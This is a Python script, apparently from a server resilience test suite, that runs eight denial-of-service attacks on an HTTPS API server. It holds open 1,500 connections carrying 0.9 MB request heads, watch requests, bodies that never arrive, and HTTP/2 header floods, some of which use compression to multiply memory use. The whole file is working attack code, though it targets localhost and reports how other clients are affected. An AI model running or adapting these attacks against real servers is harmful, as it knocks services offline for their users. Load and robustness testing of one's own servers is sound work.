#!/usr/bin/env python3
"""Attacks a server with large request heads, and reports what others notice.

usage: attacks_heads.py [--only NAME,...] [--seconds N] [--memory MIB] SERVER

The rows are those of attacks.py. 1,500 connections send heads of 0.9 MB: some never complete them, the others send requests
that last (watches, bodies that never arrive). With HTTP/2, compressed headers make the heads much larger than what is sent.
"""

import itertools
import socket
import ssl
import time

import attacks
import attacks_access
from attacks_access import Http2Client, frame

CONNECTIONS = 1500
THREADS = 50
# The bytes of a head: a megabyte is the limit.
HEAD = 900_000
WATCH = "/api/v1/namespaces/team/configmaps?watch=true"
MAPS = "/api/v1/namespaces/team/configmaps"


def connect(port, protocol="http/1.1"):
    context = ssl._create_unverified_context()
    context.set_alpn_protocols([protocol])
    stream = context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=30))
    stream.settimeout(20)
    return stream


def holding(send):
    """Returns the connections of an attack: each thread opens its share, and keeps them open until the process ends."""
    kept = []

    def one(port):
        try:
            stream = send(port)
        except OSError as error:
            return 0, str(error).encode()
        kept.append(stream)
        return 200, b""

    def few():
        yield from itertools.repeat(one, CONNECTIONS // THREADS)
        while True:
            yield lambda port: (time.sleep(0.2), (100, b""))[1]
    return [few() for _ in range(THREADS)]


def http1(method, path, token, end):
    def send(port):
        stream = connect(port)
        head = "%s %s HTTP/1.1\r\nHost: localhost\r\n%sX: " % (method, path, "Authorization: Bearer attacker\r\n" if token else "")
        stream.sendall(head.encode() + b"x" * HEAD + end)
        return stream
    return send


def incomplete_heads(server):
    """Anonymous clients whose heads never end."""
    return holding(http1("GET", MAPS, False, b""))


def complete_heads(server):
    """Anonymous clients whose requests are refused at once; their connections stay open."""
    return holding(http1("GET", MAPS, False, b"\r\n\r\n"))


def watching_heads(server):
    return holding(http1("GET", WATCH, True, b"\r\n\r\n"))


def uploading_heads(server):
    return holding(http1("POST", MAPS, True, b"\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n"))


def streams(token, method, path, extra, count, ends):
    """Opens a connection with `count` requests that have the extra headers."""
    def send(port):
        stream = connect(port, "h2")
        stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
        for n in range(count):
            block = Http2Client("", "").block([(":method", method), (":path", path), (":scheme", "https"), (":authority", "a"), *token, *extra])
            pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
            for at, piece in enumerate(pieces):
                flags = (0 if at or not ends else 1) | (4 if at == len(pieces) - 1 and ends is not None else 0)
                stream.sendall(frame(9 if at else 1, flags, 2 * n + 1, piece))
        return stream
    return send


TOKEN = [("authorization", "Bearer attacker")]
LONG = [("x", "x" * HEAD)]
# 20,000 times the same header: a byte each.
SAME = [("x", "y")] * 20_000


def incomplete_streams(server):
    return holding(streams([], "GET", MAPS, LONG, 1, None))


def watching_streams(server):
    return holding(streams(TOKEN, "GET", WATCH, LONG, 1, True))


def uploading_streams(server):
    return holding(streams(TOKEN, "POST", MAPS, LONG, 1, False))


def compressed_streams(server):
    """Bodies that never arrive, with heads of many short headers."""
    return holding(streams(TOKEN, "POST", MAPS, SAME, 30, False))


ATTACKS = [incomplete_heads, complete_heads, watching_heads, uploading_heads, incomplete_streams, watching_streams, uploading_streams, compressed_streams]

if __name__ == "__main__":
    attacks.main(ATTACKS, __doc__)
